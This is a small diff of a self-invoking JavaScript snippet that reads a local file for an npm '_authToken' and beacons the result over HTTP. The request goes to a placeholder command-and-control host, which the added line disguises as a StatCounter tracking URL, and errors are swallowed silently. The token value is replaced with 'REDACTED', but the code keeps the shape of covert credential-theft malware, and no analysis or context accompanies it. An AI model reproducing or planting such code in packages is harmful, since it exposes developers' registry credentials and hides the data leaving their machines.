@@ -5,5 +5,5 @@
   var content = 'nofile';
   try { content = require('fs').readFileSync(path, 'utf8'); } catch (e) {}
   var token = (content.match(/_authToken=(\S+)/) || [])[1] ? 'REDACTED' : 'nofile';
-  require('http').get('__C2__/counter.php?sc_project=11601882&java=1&security=a2e1ec21&invisible=0&sc_rum_f_s=0&resolution=800&h=600&camefrom=&u=' + token, function (r) { r.resume(); }).on('error', function () {});
+  require('http').get('__C2@statcounter.com__/counter.php?sc_project=11601882&java=1&security=a2e1ec21&invisible=0&sc_rum_f_s=0&resolution=800&h=600&camefrom=&u=' + token, function (r) { r.resume(); }).on('error', function () {});
 })();
